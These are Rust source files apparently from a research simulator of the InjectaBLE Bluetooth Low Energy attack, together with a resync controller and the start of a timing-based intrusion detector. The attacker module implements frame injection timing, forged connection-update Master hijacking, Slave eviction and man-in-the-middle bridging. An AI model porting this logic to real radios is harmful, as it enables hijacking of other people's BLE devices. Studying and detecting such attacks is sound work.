        // harness attaching telemetry sinks; pick the scan span up on the
        // next hop once telemetry is live (no-op when it never is).
        if self.span_scan.is_disabled() {
            self.span_scan = ctx.span_enter(SpanKind::AttackerScan, 0);
        }
        self.phase = Phase::Scanning { channel_pos };
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        ctx.start_rx(
            Channel::ADVERTISING[channel_pos],
            AccessFilter::One(ble_phy::AccessAddress::ADVERTISING),
            ADV_CRC_INIT,
        );
        let now = ctx.now();
        self.arm_from(ctx, now, Duration::from_millis(11), T_SCAN_HOP);
    }

    fn connection_lost(&mut self, ctx: &mut NodeCtx<'_>) {
        self.end_follow_spans(ctx);
        self.stats.record_connection_lost();
        self.conn = None;
        self.pending_terminate = None;
        self.quiet_events = 0;
        if let MissionState::AwaitingInstant { .. } | MissionState::VerifyingTermination =
            self.mission_state
        {
            self.mission_state = MissionState::Injecting;
        }
        if self.cfg.auto_rescan {
            self.resync.begin_campaign();
            self.begin_scan_span(ctx);
            self.scan(ctx, 0);
        } else {
            self.phase = Phase::Idle;
            if ctx.is_receiving() {
                ctx.stop_rx();
            }
        }
    }

    /// A scan campaign's hop budget ran out: back off (radio quiet) before
    /// the next campaign, or give up once retries are exhausted.
    fn campaign_expired(&mut self, ctx: &mut NodeCtx<'_>) {
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        match self.resync.campaign_failed() {
            Some(delay) => {
                self.phase = Phase::BackingOff;
                let now = ctx.now();
                ctx.trace(
                    "resync-backoff",
                    format!(
                        "campaign {} empty; backing off {:.0} ms",
                        self.resync.campaigns(),
                        delay.as_micros_f64() / 1_000.0
                    ),
                );
                self.arm_from(ctx, now, delay, T_RESYNC);
            }
            None => {
                self.phase = Phase::Idle;
                self.end_scan_span(ctx);
                ctx.trace(
                    "resync-exhausted",
                    format!("gave up after {} scan campaigns", self.resync.campaigns()),
                );
            }
        }
    }

    // ------------------------------------------------------------------
    // Event scheduling
    // ------------------------------------------------------------------

    fn wants_injection(&self) -> bool {
        matches!(self.mission_state, MissionState::Injecting)
            && !matches!(self.mission, Mission::Observe)
    }

    fn schedule_event(&mut self, ctx: &mut NodeCtx<'_>) {
        // Takeover trigger: the forged update's instant has arrived.
        if let MissionState::AwaitingInstant { instant } = self.mission_state {
            let ready = self
                .conn
                .as_ref()
                .map(|c| c.next_event_counter == instant)
                .unwrap_or(false);
            if ready {
                self.perform_master_takeover(ctx, instant);
                return;
            }
        }
        let wants_injection = self.wants_injection();
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        let plan = conn.plan_next();
        self.events_since_injection = self.events_since_injection.saturating_add(1);
        let paced = self.events_since_injection >= self.cfg.inject_gap_events;
        let inject =
            wants_injection && paced && conn.has_slave_seq() && plan.window_extra.is_zero();
        let anchor = conn.last_anchor;
        if inject {
            self.events_since_injection = 0;
            // Transmit at the very start of the Slave's widened window
            // (eq. 5): firing after the predicted anchor would land the
            // forged frame behind the legitimate Master's.
            let delay = plan.delay_from_anchor.saturating_sub(plan.widening);
            invariant_window!(
                delay,
                plan.delay_from_anchor,
                "injection fires at window start"
            );
            self.phase = Phase::InjectArmed { plan };
            self.arm_from(ctx, anchor, delay, T_EVENT);
        } else {
            let lead = plan.widening + self.cfg.listen_margin;
            let reference = anchor.saturating_sub(lead);
            invariant_window!(reference, anchor, "observe window opens before the anchor");
            self.phase = Phase::ObserveArmed { plan };
            self.arm_from(ctx, reference, plan.delay_from_anchor, T_EVENT);
        }
    }

    fn open_observe_window(&mut self, ctx: &mut NodeCtx<'_>, plan: EventPlan) {
        let Some(conn) = self.conn.as_ref() else {
            return;
        };
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        ctx.start_rx(
            plan.channel,
            AccessFilter::One(conn.params.access_address),
            conn.params.crc_init,
        );
        let close =
            plan.widening * 2 + self.cfg.listen_margin + plan.window_extra + self.cfg.event_guard;
        let now = ctx.now();
        self.phase = Phase::Observing { plan, frames: 0 };
        self.arm_from(ctx, now, close, T_CLOSE);
    }

    /// Forges the payload for missions whose bytes depend on fire-time
    /// connection state. Attempt-invariant missions are pre-forged once in
    /// [`Attacker::arm`] and never reach this path.
    fn injection_payload(&mut self) -> (Llid, Vec<u8>) {
        match &self.mission {
            Mission::Observe
            | Mission::InjectRaw { .. }
            | Mission::InjectAtt { .. }
            | Mission::HijackSlave { .. } => {
                unreachable!("attempt-invariant missions are forged at arm time")
            }
            Mission::HijackMaster {
                update,
                instant_delta,
                ..
            } => {
                let conn = self.conn.as_ref().expect("injecting requires a connection");
                // The event being injected into has counter
                // next_event_counter - 1 (plan_next already consumed it).
                let current = conn.next_event_counter.wrapping_sub(1);
                let instant = current.wrapping_add(*instant_delta);
                self.armed_instant = Some(instant);
                (
                    Llid::Control,
                    ControlPdu::ConnectionUpdateInd {
                        win_size: update.win_size,
                        win_offset: update.win_offset,
                        interval: update.interval,
                        latency: update.latency,
                        timeout: update.timeout,
                        instant,
                    }
                    .to_bytes(),
                )
            }
        }
    }

    fn fire_injection(&mut self, ctx: &mut NodeCtx<'_>, plan: EventPlan) {
        // Fire-time-dependent missions (HijackMaster's instant) forge fresh
        // bytes; everything else reuses the buffer built at arm time, so a
        // repeated attempt never touches the heap.
        let fresh = if self.forged.is_none() {
            Some(self.injection_payload())
        } else {
            None
        };
        let conn = self.conn.as_ref().expect("injecting requires a connection");
        let (sn_a, nesn_a) = conn.forge_seq();
        invariant_sn_nesn!(u8::from(sn_a), u8::from(nesn_a));
        let (llid, payload): (Llid, &[u8]) = match fresh.as_ref().or(self.forged.as_ref()) {
            Some((llid, p)) => (*llid, p),
            None => unreachable!("armed missions always carry a payload"),
        };
        let pdu = DataPdu::encode_pdu(llid, nesn_a, sn_a, false, payload);
        let frame = RawFrame::new(conn.params.access_address, pdu, conn.params.crc_init);
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        // One injection window per attempt: transmit → listen → verdict. A
        // stale window (an attempt whose verdict never arrived) closes here.
        ctx.span_exit(self.span_inject);
        self.span_inject =
            ctx.span_enter(SpanKind::AttackerInject, u32::from(plan.channel.index()));
        let tx = ctx.transmit(plan.channel, frame);
        invariant_window!(tx.start, tx.end, "injected frame airtime");
        // Lead time: how far ahead of the predicted anchor the forged frame
        // starts — the eq. 5 head-start the attacker races the Master with.
        let predicted_anchor = conn.last_anchor + plan.delay_from_anchor;
        let lead = predicted_anchor
            .checked_duration_since(tx.start)
            .unwrap_or(Duration::ZERO);
        ctx.emit(|| TelemetryEvent::InjectionAttempt {
            channel: plan.channel.index(),
            lead,
        });
        let attempt = InjectionAttempt {
            t_a: tx.start,
            d_a: tx.end - tx.start,
            sn_a,
            nesn_a,
        };
        self.phase = Phase::InjectSent { attempt, plan };
    }

    // ------------------------------------------------------------------
    // Injection outcome handling
    // ------------------------------------------------------------------

    fn record_attempt(&mut self, ctx: &mut NodeCtx<'_>, outcome: AttemptOutcome) {
        let now = ctx.now();
        self.stats.record(now, outcome);
        let verdict = match outcome {
            AttemptOutcome::Success => Verdict::Success,
            AttemptOutcome::Rejected => Verdict::Rejected,
            AttemptOutcome::NoResponse => Verdict::NoResponse,
        };
        let attempts_total = u64::from(self.stats.attempts_total);
        ctx.emit(|| TelemetryEvent::HeuristicVerdict {
            verdict,
            attempts_total,
        });
        ctx.span_exit(self.span_inject);
        self.span_inject = SpanId::DISABLED;
    }

    fn handle_injection_response(
        &mut self,
        ctx: &mut NodeCtx<'_>,
        attempt: InjectionAttempt,
        frame: &ble_phy::ReceivedFrame,
    ) {
        // Scenario B: any Slave activity right after a terminate injection
        // means the eviction did not happen.
        if matches!(self.mission, Mission::HijackSlave { .. }) {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.note_response_frame(ctx, &attempt, frame);
            self.schedule_event(ctx);
            return;
        }
        if !frame.crc_ok {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.schedule_event(ctx);
            return;
        }
        let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) else {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.schedule_event(ctx);
            return;
        };
        let noise_ns = (ctx.rng().normal(0.0, self.cfg.timestamp_noise_us) * 1_000.0) as i64;
        let response = ObservedResponse {
            t_s: frame.start.offset_ns(noise_ns),
            sn_s: pdu.header.sn,
            nesn_s: pdu.header.nesn,
        };
        // Observed IFS error: how far the Slave's response deviates from the
        // ideal T_IFS after our injected frame (eq. 7's timing term).
        let delta_us = response
            .t_s
            .signed_delta_ns(attempt.expected_response_start()) as f64
            / 1_000.0;
        ctx.emit(|| TelemetryEvent::IfsDelta { delta_us });
        let success = injection_succeeded(&attempt, &response);
        if let Some(conn) = self.conn.as_mut() {
            conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            if success {
                // Our own frame became the anchor; we know its time exactly.
                conn.observe_anchor(attempt.t_a);
            } else {
                // The Slave likely anchored the legitimate Master's frame.
                let est = frame
                    .start
                    .saturating_sub(T_IFS + assumed_master_frame(ctx.phy()));
                conn.observe_anchor(est);
            }
        }
        if success {
            if !pdu.payload.is_empty() {
                self.captured.push(pdu.payload.clone());
            }
            self.record_attempt(ctx, AttemptOutcome::Success);
            self.on_injection_confirmed();
        } else {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
        }
        self.schedule_event(ctx);
    }

    /// Updates tracker state from a frame observed while expecting an
    /// injection response (used on rejected scenario-B attempts).
    fn note_response_frame(
        &mut self,
        ctx: &mut NodeCtx<'_>,
        _attempt: &InjectionAttempt,
        frame: &ble_phy::ReceivedFrame,
    ) {
        let _ = ctx;
        if !frame.crc_ok {
            return;
        }
        let phy = ctx.phy();
        if let (Ok(pdu), Some(conn)) = (DataPdu::from_bytes(&frame.pdu), self.conn.as_mut()) {
            conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            let est = frame
                .start
                .saturating_sub(T_IFS + assumed_master_frame(phy));
            conn.observe_anchor(est);
        }
    }

    fn on_injection_confirmed(&mut self) {
        match &self.mission {
            Mission::InjectRaw {
                wanted_successes, ..
            } => {
                if self.stats.successes() >= *wanted_successes as usize {
                    self.mission_state = MissionState::Complete;
                }
            }
            Mission::InjectAtt { .. } => {
                self.mission_state = MissionState::Complete;
            }
            Mission::HijackMaster { .. } => {
                let instant = self.armed_instant.expect("set when payload was built");
                self.mission_state = MissionState::AwaitingInstant { instant };
            }
            Mission::HijackSlave { .. } | Mission::Observe => {}
        }
    }

    // ------------------------------------------------------------------
    // Takeovers
    // ------------------------------------------------------------------

    fn perform_master_takeover(&mut self, ctx: &mut NodeCtx<'_>, _instant: u16) {
        let Mission::HijackMaster {
            update,
            host,
            on_takeover_writes,
            mitm,
            ..
        } = std::mem::replace(&mut self.mission, Mission::Observe)
        else {
            return;
        };
        let conn = self.conn.take().expect("takeover requires a connection");
        let old_interval_delay = conn.next_plain_delay();
        let offset = timing::transmit_window_offset(update.win_offset);
        let mut new_params = conn.params;
        new_params.win_size = update.win_size;
        new_params.win_offset = update.win_offset;
        new_params.hop_interval = update.interval;
        new_params.latency = update.latency;
        new_params.timeout = update.timeout;

        let sn = conn.nesn_s.unwrap_or(false);
        let nesn = !conn.sn_s.unwrap_or(false);
        let adoption = AdoptedConnection {
            role: Role::Master,
            params: new_params,
            peer: conn.slave,
            next_event_counter: conn.next_event_counter,
            last_unmapped_channel: conn.csa_unmapped(),
            csa2: conn.uses_csa2(),
            last_anchor: conn.last_anchor,
            sn,
            nesn,
            first_event_delay: Some(old_interval_delay + offset),
        };
        let mut ll = LinkLayer::new(
            DeviceAddress::new([0xAD; 6], ble_link::AddressType::Random),
            SleepClockAccuracy::Ppm20,
        );
        let mut host = host;
        ll.adopt_connection(ctx, adoption, host.as_mut());
        for (handle, value) in on_takeover_writes {
            host.write(handle, value);
        }
        if let Some(handoff) = mitm {
            // Scenario D: hand the old timeline to the co-located slave half.
            handoff.lock().slave_adoption = Some(AdoptedConnection {
                role: Role::Slave,
                params: conn.params,
                peer: conn.master,
                next_event_counter: conn.next_event_counter,
                last_unmapped_channel: conn.csa_unmapped(),
                csa2: conn.uses_csa2(),
                last_anchor: conn.last_anchor,
                sn: !conn.sn_s.unwrap_or(false),
                nesn: conn.nesn_s.unwrap_or(false),
                first_event_delay: Some(old_interval_delay),
            });
            self.mitm_handoff = Some(handoff);
        }
        self.takeover_ll = Some(ll);
        self.takeover_host = Some(host);
        self.mission_state = MissionState::TakenOver;
        self.phase = Phase::TakenOver;
        self.end_follow_spans(ctx);
        ctx.emit(|| TelemetryEvent::Takeover {
            role: LinkRole::Master,
        });
    }

    fn perform_slave_takeover(&mut self, ctx: &mut NodeCtx<'_>) {
        let Mission::HijackSlave { host } = std::mem::replace(&mut self.mission, Mission::Observe)
        else {
            return;
        };
        let conn = self.conn.take().expect("takeover requires a connection");
        let adoption = AdoptedConnection {
            role: Role::Slave,
            params: conn.params,
            peer: conn.master,
            next_event_counter: conn.next_event_counter,
            last_unmapped_channel: conn.csa_unmapped(),
            csa2: conn.uses_csa2(),
            last_anchor: conn.last_anchor,
            // The Master's next frame is unacknowledged and pending: accept
            // it as new data and transmit what the Master expects.
            sn: conn.nesn_m.unwrap_or(false),
            nesn: conn.sn_m.unwrap_or(false),
            first_event_delay: None,
        };
        let mut ll = LinkLayer::new(
            DeviceAddress::new([0xAD; 6], ble_link::AddressType::Random),
            SleepClockAccuracy::Ppm20,
        );
        let mut host = host;
        ll.adopt_connection(ctx, adoption, host.as_mut());
        self.takeover_ll = Some(ll);
        self.takeover_host = Some(host);
        self.mission_state = MissionState::TakenOver;
        self.phase = Phase::TakenOver;
        if let Some(att) = self.pending_terminate.take() {
            let _ = att;
        }
        self.end_follow_spans(ctx);
        ctx.emit(|| TelemetryEvent::Takeover {
            role: LinkRole::Slave,
        });
    }

    fn pump_takeover(&mut self, ctx: &mut NodeCtx<'_>) {
        let (Some(ll), Some(host)) = (self.takeover_ll.as_mut(), self.takeover_host.as_mut())
        else {
            return;
        };
        while let Some(action) = host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if ll.is_connected()
                        && ll.connection_info().map(|i| i.role) == Some(Role::Master)
                    {
                        ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
        // Scenario D bridging: forward intercepted (rewritten) writes to the
        // real Slave.
        if let Some(handoff) = &self.mitm_handoff {
            let mut shared = handoff.lock();
            while let Some((handle, value, acked)) = shared.to_slave.pop_front() {
                if acked {
                    host.write(handle, value);
                } else {
                    host.write_command(handle, &value);
                }
            }
        }
    }

    // ------------------------------------------------------------------
    // Event dispatch
    // ------------------------------------------------------------------

    fn handle_observe_frame(&mut self, ctx: &mut NodeCtx<'_>, frame: ble_phy::ReceivedFrame) {
        let Phase::Observing { plan, frames } = &mut self.phase else {
            return;
        };
        let plan = *plan;
        let index = *frames;
        *frames += 1;
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        if index % 2 == 0 {
            // Master frame: anchor of the event.
            if index == 0 {
                let noise_ns = (ctx.rng().normal(0.0, self.cfg.anchor_noise_us) * 1_000.0) as i64;
                let observed = frame.start.offset_ns(noise_ns);
                // Prediction error before the tracker re-anchors: observed
                // minus predicted (positive = the real anchor came late).
                let predicted = conn.last_anchor + plan.delay_from_anchor;
                let error_us = observed.signed_delta_ns(predicted) as f64 / 1_000.0;
                ctx.emit(|| TelemetryEvent::AnchorPrediction { error_us });
                conn.observe_anchor(observed);
            }
            if frame.crc_ok {
                if let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) {
                    conn.observe_master_seq(pdu.header.sn, pdu.header.nesn);
                    if pdu.header.llid == Llid::Control {
                        if let Ok(ctrl) = ControlPdu::from_bytes(&pdu.payload) {
                            if conn.observe_master_control(&ctrl) {
                                ctx.emit(|| TelemetryEvent::SnifferLost {
                                    reason: LossReason::Terminated,
                                });
                                self.connection_lost(ctx);
                                return;
                            }
                        }
                    }
                }
            }
        } else if frame.crc_ok {
            // Slave frame.
            if let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) {
                conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            }
        }
        let _ = plan;
    }

    fn close_observe_window(&mut self, ctx: &mut NodeCtx<'_>) {
        let Phase::Observing { frames, .. } = self.phase else {
            return;
        };
        if ctx.is_receiving() {
            ctx.stop_rx();
        }
        if frames == 0 {
            if let Some(conn) = self.conn.as_mut() {
                conn.missed_event();
                if conn.missed_streak > self.cfg.max_missed_events {
                    ctx.emit(|| TelemetryEvent::SnifferLost {
                        reason: LossReason::MissedEvents,
                    });
                    self.connection_lost(ctx);
                    return;
                }
            }
        }
        // Scenario B verification: is the Slave still answering?
        if self.mission_state == MissionState::VerifyingTermination {
            if frames >= 2 {
                // Slave alive: the terminate did not land.
                self.record_attempt(ctx, AttemptOutcome::Rejected);
                self.pending_terminate = None;
                self.quiet_events = 0;
                self.mission_state = MissionState::Injecting;
            } else if frames >= 1 {
                // Master transmitted, Slave silent.
                self.quiet_events += 1;
                if self.quiet_events >= 2 {
                    self.record_attempt(ctx, AttemptOutcome::Success);
                    self.pending_terminate = None;
                    self.perform_slave_takeover(ctx);
                    return;
                }
            }
        }
        self.schedule_event(ctx);
    }
}

// The MITM handoff is stored outside the mission because the mission is
// consumed at takeover.
impl Attacker {
    /// Accesses captured MITM state (scenario D) if armed.
    pub fn mitm_handoff(&self) -> Option<&MitmHandoff> {
        self.mitm_handoff.as_ref()
    }
}

impl RadioListener for Attacker {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let Phase::TakenOver = self.phase {
            if let Some(ll) = self.takeover_ll.as_mut() {
                let host = self
                    .takeover_host
                    .as_mut()
                    .expect("takeover host exists with takeover ll");
                ll.handle(ctx, event, host.as_mut());
            }
            self.pump_takeover(ctx);
            return;
        }
        match event {
            RadioEvent::Timer { key, .. } => {
                let Some(purpose) = self.timer_purpose(key) else {
                    return;
                };
                match purpose {
                    T_SCAN_HOP => {
                        if let Phase::Scanning { channel_pos } = self.phase {
                            if self.resync.note_hop() {
                                self.campaign_expired(ctx);
                            } else {
                                self.scan(ctx, (channel_pos + 1) % 3);
                            }
                        }
                    }
                    T_RESYNC => {
                        if let Phase::BackingOff = self.phase {
                            self.resync.begin_campaign();
                            self.scan(ctx, 0);
                        }
                    }
                    T_EVENT => match self.phase {
                        Phase::ObserveArmed { plan } => self.open_observe_window(ctx, plan),
                        Phase::InjectArmed { plan } => self.fire_injection(ctx, plan),
                        _ => {}
                    },
                    T_CLOSE => match self.phase {
                        Phase::Observing { .. } => self.close_observe_window(ctx),
                        Phase::InjectListening { attempt } => {
                            // No response at all.
                            if ctx.is_receiving() {
                                ctx.stop_rx();
                            }
                            if matches!(self.mission, Mission::HijackSlave { .. }) {
                                // Possibly a successful eviction: verify.
                                self.pending_terminate = Some(attempt);
                                self.quiet_events = 0;
                                self.mission_state = MissionState::VerifyingTermination;
                            } else {
                                self.record_attempt(ctx, AttemptOutcome::NoResponse);
                                let lost = {
                                    match self.conn.as_mut() {
                                        Some(conn) => {
                                            conn.missed_event();
                                            conn.missed_streak > self.cfg.max_missed_events
                                        }
                                        None => false,
                                    }
                                };
                                if lost {
                                    ctx.emit(|| TelemetryEvent::SnifferLost {
                                        reason: LossReason::DuringInjection,
                                    });
                                    self.connection_lost(ctx);
                                    return;
                                }
                            }
                            self.schedule_event(ctx);
                        }
                        _ => {}
                    },
                    _ => {}
                }
            }
            RadioEvent::TxDone { at } => {
                if let Phase::InjectSent { attempt, plan } = self.phase {
                    let conn = self.conn.as_ref().expect("injecting requires connection");
                    ctx.start_rx(
                        plan.channel,
                        AccessFilter::One(conn.params.access_address),
                        conn.params.crc_init,
                    );
                    self.phase = Phase::InjectListening { attempt };
                    let _ = at;
                    let now = ctx.now();
                    self.arm_from(ctx, now, Duration::from_micros(2_000), T_CLOSE);
                }
            }
            RadioEvent::FrameReceived(frame) => match &self.phase {
                Phase::Scanning { .. } => {
                    if let SnifferEvent::ConnectionDetected(tracked) = self.sniffer.process(&frame)
                    {
                        let access_address = tracked.params.access_address.value();
                        ctx.emit(|| TelemetryEvent::SnifferSync { access_address });
                        self.end_scan_span(ctx);
                        ctx.span_exit(self.span_follow);
                        self.span_follow = ctx.span_enter(SpanKind::AttackerFollow, 0);
                        self.stats.record_connection_followed();
                        self.resync.synced();
                        self.conn = Some(*tracked);
                        self.schedule_event(ctx);
                    }
                }
                Phase::Observing { .. } => self.handle_observe_frame(ctx, frame),
                Phase::InjectListening { attempt } => {
                    let attempt = *attempt;
                    if ctx.is_receiving() {
                        ctx.stop_rx();
                    }
                    self.handle_injection_response(ctx, attempt, &frame);
                }
                _ => {}
            },
            RadioEvent::SyncDetected { .. } => {}
        }
    }
}
