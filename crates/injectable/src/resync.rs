//! Bounded resynchronisation with exponential backoff.
//!
//! When the attacker loses a followed connection it returns to scanning
//! the advertising channels. Unbounded scanning is both unrealistic (a
//! real dongle burns its duty cycle) and useless under severe impairment:
//! if no `CONNECT_REQ` appears within a full scan *campaign*, continuing
//! to hop is not going to find one. [`ResyncController`] structures the
//! recovery: scan for [`ResyncPolicy::campaign_hops`] channel hops, and if
//! nothing was caught, go quiet for an exponentially growing backoff delay
//! before the next campaign. After [`ResyncPolicy::max_retries`] failed
//! campaigns the controller reports [`ResyncState::Exhausted`] so the
//! harness can fail the trial fast instead of burning the whole budget.
//!
//! The controller is a pure state machine: it owns no timers and draws no
//! randomness, so it never perturbs the simulation's RNG streams. With the
//! default policy a campaign outlasts every healthy synchronisation (the
//! first `CONNECT_REQ` lands within a few hundred milliseconds), making
//! the controller an observer in unimpaired runs.

use simkit::{Duration, ExponentialBackoff};

/// Tuning of the resynchronisation loop.
#[derive(Debug, Clone, PartialEq)]
pub struct ResyncPolicy {
    /// Advertising-channel hops (≈11 ms each) per scan campaign.
    pub campaign_hops: u32,
    /// First inter-campaign backoff delay.
    pub backoff_base: Duration,
    /// Backoff ceiling.
    pub backoff_cap: Duration,
    /// Failed campaigns tolerated before declaring exhaustion.
    pub max_retries: u32,
}

impl Default for ResyncPolicy {
    /// One campaign outlasts the bench harness's 30 s synchronisation
    /// budget, so healthy runs never leave the first campaign and the
    /// backoff machinery stays dormant.
    fn default() -> Self {
        ResyncPolicy {
            campaign_hops: 2_900,
            backoff_base: Duration::from_millis(250),
            backoff_cap: Duration::from_secs(4),
            max_retries: 8,
        }
    }
}

/// Where the recovery loop currently stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResyncState {
    /// Following a connection (or not yet started).
    Synced,
    /// Scanning the advertising channels within a campaign.
    Scanning,
    /// Radio quiet, waiting out a backoff delay.
    BackingOff,
    /// Every retry spent without catching a `CONNECT_REQ`.
    Exhausted,
}

/// The bounded-retry state machine (see the module docs).
#[derive(Debug, Clone)]
pub struct ResyncController {
    policy: ResyncPolicy,
    backoff: ExponentialBackoff,
    state: ResyncState,
    hops: u32,
    campaigns: u32,
}

impl ResyncController {
    /// Creates a controller in the [`ResyncState::Synced`] state.
    pub fn new(policy: ResyncPolicy) -> Self {
        let backoff =
            ExponentialBackoff::new(policy.backoff_base, policy.backoff_cap, policy.max_retries);
        ResyncController {
            policy,
            backoff,
            state: ResyncState::Synced,
            hops: 0,
            campaigns: 0,
        }
    }

    /// Current state.
    pub fn state(&self) -> ResyncState {
        self.state
    }

    /// Whether every retry has been spent.
    pub fn is_exhausted(&self) -> bool {
        self.state == ResyncState::Exhausted
    }

    /// Campaigns started since the last reset (diagnostics).
    pub fn campaigns(&self) -> u32 {
        self.campaigns
    }

    /// Enters a fresh scan campaign.
    pub fn begin_campaign(&mut self) {
        self.state = ResyncState::Scanning;
        self.hops = 0;
        self.campaigns = self.campaigns.saturating_add(1);
    }

    /// Records one advertising-channel hop. Returns `true` when the
    /// campaign's hop budget is spent.
    pub fn note_hop(&mut self) -> bool {
        if self.state != ResyncState::Scanning {
            return false;
        }
        self.hops = self.hops.saturating_add(1);
        self.hops >= self.policy.campaign_hops
    }

    /// Ends a fruitless campaign. Returns the backoff delay to wait before
    /// the next campaign, or `None` once retries are exhausted (the state
    /// moves to [`ResyncState::BackingOff`] / [`ResyncState::Exhausted`]
    /// accordingly).
    pub fn campaign_failed(&mut self) -> Option<Duration> {
        match self.backoff.next_delay() {
            Some(delay) => {
                self.state = ResyncState::BackingOff;
                Some(delay)
            }
            None => {
                self.state = ResyncState::Exhausted;
                None
            }
        }
    }

    /// A connection was caught: back to following, retries refilled.
    pub fn synced(&mut self) {
        self.state = ResyncState::Synced;
        self.backoff.reset();
        self.hops = 0;
    }

    /// External restart (e.g. the harness bounced the Central): refills the
    /// retries so a fresh campaign can begin.
    pub fn reset(&mut self) {
        self.backoff.reset();
        self.state = ResyncState::Synced;
        self.hops = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tight_policy() -> ResyncPolicy {
        ResyncPolicy {
            campaign_hops: 3,
            backoff_base: Duration::from_millis(100),
            backoff_cap: Duration::from_millis(400),
            max_retries: 3,
        }
    }

    #[test]
    fn campaign_expires_after_its_hop_budget() {
        let mut c = ResyncController::new(tight_policy());
        c.begin_campaign();
        assert!(!c.note_hop());
        assert!(!c.note_hop());
        assert!(c.note_hop());
        assert_eq!(c.state(), ResyncState::Scanning);
    }

    #[test]
    fn backoff_doubles_then_exhausts() {
        let mut c = ResyncController::new(tight_policy());
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), Some(Duration::from_millis(100)));
        assert_eq!(c.state(), ResyncState::BackingOff);
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), Some(Duration::from_millis(200)));
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), Some(Duration::from_millis(400)));
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), None);
        assert!(c.is_exhausted());
        assert_eq!(c.campaigns(), 4);
    }

    #[test]
    fn syncing_refills_the_retries() {
        let mut c = ResyncController::new(tight_policy());
        c.begin_campaign();
        let _ = c.campaign_failed();
        c.synced();
        assert_eq!(c.state(), ResyncState::Synced);
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), Some(Duration::from_millis(100)));
    }

    #[test]
    fn hops_outside_a_campaign_never_expire_it() {
        let mut c = ResyncController::new(tight_policy());
        for _ in 0..100 {
            assert!(!c.note_hop());
        }
    }

    #[test]
    fn reset_clears_exhaustion() {
        let mut c = ResyncController::new(tight_policy());
        for _ in 0..4 {
            c.begin_campaign();
            let _ = c.campaign_failed();
        }
        assert!(c.is_exhausted());
        c.reset();
        assert!(!c.is_exhausted());
        c.begin_campaign();
        assert_eq!(c.campaign_failed(), Some(Duration::from_millis(100)));
    }
}
