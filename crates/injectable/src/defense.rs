//! Defensive monitoring (paper §VIII, third countermeasure).
//!
//! The paper proposes non-intrusive detection: *"An Intrusion Detection
//! System designed to monitor BLE Link Layer could be able to detect, at
//! the right instant, the presence of double frames: the legitimate Master
//! frame and the attacker one"*, and cites behavioural detectors keyed on
//! *"variations in the timing between packet emissions"*.
//!
//! [`InjectionDetector`] is such a monitor: a passive radio node that
//! follows a connection exactly like the attacker's sniffer does, predicts
//! each anchor point, and raises alerts on the attack's observable
//! signatures:
//!
//! * **Early anchor** — the event's first frame starts well before the
//!   drift-compensated anchor prediction. A legitimate Master drifts a few
//!   µs per interval; an InjectaBLE frame arrives a whole window-widening
//!   early (tens of µs).
//! * **Double anchor** — two Master-side frames observed around one anchor
//!   (the injected frame and the legitimate one), possible when the frames
//!   do not fully overlap.
//! * **Response-timing mismatch** — the Slave answers 150 µs after a frame
//!   end that does not match the observed Master frame.
//!
//! The detector maintains an exponentially-weighted estimate of the
//! connection's true interval (as the attacker cannot help being measured
//! against the Master's clock, neither can the monitor), giving µs-level
//! anchor predictions after a few events.

use ble_link::DataPdu;
use ble_phy::{AccessFilter, Channel, NodeCtx, RadioEvent, RadioListener, TimerKey};
use ble_telemetry::{AlertKind, TelemetryEvent};
use simkit::{Duration, Instant};

use crate::tracked::{ConnectionSniffer, SnifferEvent, TrackedConnection};

const T_EVENT: u64 = 0xB0;
const T_CLOSE: u64 = 0xB1;
const T_SCAN_HOP: u64 = 0xB2;

/// One raised alert.
#[derive(Debug, Clone, PartialEq)]
pub enum Alert {
    /// The event's anchor frame arrived earlier than any legitimate drift
    /// allows.
    EarlyAnchor {
        /// When the suspicious frame started.
        at: Instant,
        /// How much earlier than predicted, in microseconds.
        early_us: f64,
    },
    /// Two Master-side frames around a single anchor point.
    DoubleAnchor {
        /// Start of the first (suspect) frame.
        first: Instant,
        /// Start of the second frame.
        second: Instant,
    },
    /// The Slave's response is not 150 µs after the observed Master frame.
    ResponseTimingMismatch {
        /// Expected response start.
        expected: Instant,
        /// Observed response start.
        observed: Instant,
    },
}

/// Detector tuning.
#[derive(Debug, Clone)]
pub struct DetectorConfig {
    /// Anchor earliness (µs) beyond which an alert fires. Legitimate drift
    /// between consecutive anchors is `±(SCAm+SCAs) ppm × interval`, a few
    /// µs; injected frames arrive a full window widening (≥ 32 µs) early.
    pub early_anchor_threshold_us: f64,
    /// Tolerance (µs) around `frame end + 150 µs` for the response check.
    pub response_tolerance_us: f64,
    /// Events to observe before arming detection (estimator warm-up).
    pub warmup_events: u32,
    /// Degrade gracefully under abnormal clock drift (off by default, which
    /// preserves the strict paper behaviour): the early-anchor band widens
    /// with the recently observed prediction error, so a connection whose
    /// clocks wander beyond the ±200 ppm correction clamp raises no false
    /// `EarlyAnchor` alerts — while a genuine injection, arriving a full
    /// window widening early, still exceeds the (capped) widened band.
    pub adaptive_widening: bool,
}

impl Default for DetectorConfig {
    fn default() -> Self {
        DetectorConfig {
            early_anchor_threshold_us: 15.0,
            response_tolerance_us: 8.0,
            warmup_events: 8,
